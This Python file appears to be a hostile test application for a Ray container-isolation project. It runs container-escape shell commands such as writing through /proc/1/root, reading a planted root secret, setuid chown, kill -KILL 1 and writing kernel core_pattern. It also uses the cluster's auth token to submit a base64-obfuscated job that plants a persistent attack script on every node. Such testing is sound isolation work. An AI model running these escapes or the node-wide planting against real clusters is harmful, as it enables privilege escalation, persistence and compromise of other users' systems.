# Copyright (c) 2026 The ray.containers authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks from its container, and answers /hostile?attack=NAME by a job that does the attack of that name on every node.

See attack.py for what they do.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import subprocess
import time
import typing as t
import urllib.request
from pathlib import Path

from ray import serve
from starlette.requests import Request

ATTACK = Path(__file__).with_name("attack.py")
JOBS = "http://127.0.0.1:8265/api/jobs/"

#: What the replica tries in its container, as scripts of a shell.
ATTEMPTS = {
    "become root by sudo": "sudo -n true",
    "write where root's init is": "touch /proc/1/root/etc/from-a-replica",
    "read root's secret": "cat /proc/1/root/root/planted",
    "make a device": "mknod /tmp/ray/disk b 8 0",
    "mount": "mount -t tmpfs none /mnt",
    "another account's file": "touch /proc/1/root/home/from-a-replica",
    "give a file of its own to root": "touch /tmp/ray/given && chown 0 /tmp/ray/given && chmod 4755 /tmp/ray/given",
    # In a raylet's container that is the raylet's own, which is the Ray user's.
    "end the node's init": '[ "$(stat -c %u /proc/1)" != "$(id -u)" ] && kill -KILL 1',
    "write where the kernel obeys": "echo x > /proc/sys/kernel/core_pattern",
}

#: Sent as a job, so outside of any container: has every node carry the attack out, in a process that outlives the job.
JOB = """
import base64, os, pathlib, subprocess, sys
import ray
from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

@ray.remote(num_cpus=0)
def plant(text, name):
    home = pathlib.Path.home()
    program = home / "attack.py"
    program.write_bytes(text)
    manager = f"/run/user/{os.getuid()}"
    command = ["/usr/bin/python3", str(program), name]
    if name not in ("busy", "listen"):
        return subprocess.run(command, capture_output=True, text=True, timeout=60).stderr
    if os.path.exists(f"{manager}/systemd/private"):
        start = ["systemd-run", "--user", "--quiet", "--collect", f"--unit=attack-{name}", *command]
        return subprocess.run(start, env={**os.environ, "XDG_RUNTIME_DIR": manager}, capture_output=True, text=True).stderr
    subprocess.Popen(command, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return ""

ray.init(address="auto", log_to_driver=False)
text = base64.b64decode(sys.argv[1])
nodes = [node["NodeID"] for node in ray.nodes() if node["Alive"]]
told = ray.get([
    plant.options(scheduling_strategy=NodeAffinitySchedulingStrategy(node, soft=False)).remote(text, sys.argv[2])
    for node in nodes
])
assert not any(told), told
print("planted on", len(nodes))
"""


def attempts() -> dict[str, bool]:
    """Which of them come about."""
    run = {name: subprocess.run(["sh", "-c", script], capture_output=True) for name, script in ATTEMPTS.items()}
    return {name: done.returncode == 0 for name, done in run.items()}


def ask(path: str = "", body: dict[str, t.Any] | None = None) -> dict[str, t.Any]:
    """Speak to Ray's jobs with the token that lies in every container of an application."""
    token = Path(os.environ.get("RAY_AUTH_TOKEN_PATH") or "~/.ray/auth_token").expanduser().read_text().strip()
    data = json.dumps(body).encode() if body else None
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    request = urllib.request.Request(JOBS + path, data=data, headers=headers)
    with urllib.request.urlopen(request, timeout=20) as response:
        return t.cast("dict[str, t.Any]", json.load(response))


def job(attack: str) -> dict[str, str]:
    """Have the attack done outside of all containers; how that went."""
    words = [base64.b64encode(text).decode() for text in (JOB.encode(), ATTACK.read_bytes())]
    program = f'import base64; exec(base64.b64decode("{words[0]}"))'
    started = ask(body={"entrypoint": f"python -c '{program}' {words[1]} {attack}"})
    for _look in range(240):
        now = ask(started["submission_id"])
        if now["status"] in ("SUCCEEDED", "FAILED", "STOPPED"):
            return {"status": now["status"], "logs": ask(f"{started['submission_id']}/logs")["logs"][-2000:]}
        time.sleep(0.25)
    return {"status": now["status"], "logs": ""}


# On the head, since the dashboard listens there alone.
@serve.deployment(ray_actor_options={"num_cpus": 0.1, "resources": {"node:__internal_head__": 0.001}})
class Hostile:
    """Answers what it has tried and what came of it."""

    def __init__(self) -> None:
        self.came_about = attempts()

    def reconfigure(self, config: dict[str, t.Any]) -> None:
        """Takes the secret that the Serve config has for it."""

    async def __call__(self, request: Request) -> dict[str, t.Any]:
        attack = request.query_params.get("attack")
        told: dict[str, t.Any] = {"application": "hostile", "came_about": self.came_about}
        if attack:
            told["job"] = await asyncio.get_running_loop().run_in_executor(None, job, attack)
        return told


app = Hostile.bind()
